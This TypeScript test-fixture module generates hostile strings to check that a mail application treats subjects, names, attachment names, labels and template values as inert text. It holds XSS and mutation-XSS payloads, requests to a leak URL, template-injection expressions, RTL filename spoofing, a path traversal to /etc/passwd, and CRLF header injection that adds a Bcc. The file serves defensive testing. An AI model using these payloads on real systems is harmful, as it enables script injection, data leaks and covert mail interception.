/**
 * Hostile text for the places that are not a mail body: subjects, display names, attachment
 * names, label names, signatures and templates, `{{record.x}}` values of a bulk send. The app
 * must show each as text (or, for signature/template HTML, sanitised), never run or load it.
 * Each string's canary and leak URL carry `<place>-<name>`, so a hit says where it came from.
 */
import { canary, leakTarget, leakUrls } from './kit';

export interface HostileString {
  id: string;
  text: string;
}

const STRING_TEMPLATES: [string, (js: string, leak: string) => string][] = [
  ['img-onerror', (js) => `<img src=x onerror=${js}>`],
  ['attr-break-svg', (js) => `"><svg onload=${js}>`],
  ['single-quote-break', (js) => `'><img src=x onerror=${js}>`],
  ['script', (js) => `<script>${js}</script>`],
  ['a-javascript', (js) => `<a href="javascript:${js}">open</a>`],
  ['iframe-srcdoc', (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`],
  ['textarea-break', (js) => `</textarea></title></style><img src=x onerror=${js}>`],
  ['noscript-mxss', (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`],
  ['math-mxss', (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`],
  ['entities', (js) => `&lt;img src=x onerror=${js}&gt;`],
  ['img-leak', (_js, leak) => `<img src="${leak}">`],
  ['style-import-leak', (_js, leak) => `<style>@import '${leak}';</style>`],
  ['css-escape-leak', (_js, leak) => `<b style="background:u\\72 l(${leak})">b</b>`],
  ['template-constructor', (js) => `{{constructor.constructor("${js.replace(/'/g, '\\x27')}")()}}`],
  ['template-dollar', (js) => `\${${js}} #{${js}} <%= ${js} %>`],
  ['template-recursive', () => '{{record.subject}}{{{record.html}}}{{> partial}}'],
  ['markdown-link', (js) => `[open](javascript:${js}) ![i](x "onerror=${js}")`],
  ['data-url-link', (js) => `<a href="data:text/html,<script>${js}</script>">open</a>`],
  ['title-hover', (js) => `<b title=x onmouseover=${js}>hover</b>`],
  ['rtl-override', () => 'invoice\u202Efdp.exe'],
  ['zero-width', () => 'pay\u200Bpal\u200D support\uFEFF'],
  ['long-word', () => `W${'x'.repeat(600)}`],
];

/** Strings for one place (`subject`, `from`, `label`…); ids are `<place>-<name>`. */
export function hostileStrings(leakOrigin: string, place = 'text'): HostileString[] {
  const target = leakTarget(leakOrigin);
  return STRING_TEMPLATES.map(([name, make]) => {
    const id = `${place}-${name}`;
    return { id, text: make(canary(id), leakUrls(target, id).plain) };
  });
}

/** Attachment names: markup, path tricks and a spoofed extension. */
export function hostileFileNames(leakOrigin: string): HostileString[] {
  const target = leakTarget(leakOrigin);
  const file = (name: string, make: (js: string, leak: string) => string) => {
    const id = `file-${name}`;
    return { id, text: make(canary(id), leakUrls(target, id).plain) };
  };
  return [
    file('svg-onload', (js) => `"><svg onload=${js}>.pdf`),
    file('img-onerror', (js) => `<img src=x onerror=${js}>.png`),
    file('img-leak', (_js, leak) => `<img src=${leak}>.jpg`),
    file('path-traversal', () => '../../../../etc/passwd'),
    file('rtl-spoof', () => 'report\u202Efdp.exe'),
    file('javascript-name', (js) => `javascript:${js}.html`),
  ];
}

/** Header injection (for subjects and names that reach an outgoing mail's headers). */
export function headerInjectionStrings(leakOrigin: string): HostileString[] {
  const host = leakTarget(leakOrigin).host;
  return [
    { id: 'header-crlf-bcc', text: `Hello\r\nBcc: spy@${host}` },
    { id: 'header-lf-content-type', text: `Hello\nContent-Type: text/html\n\n<img src=x>` },
  ];
}
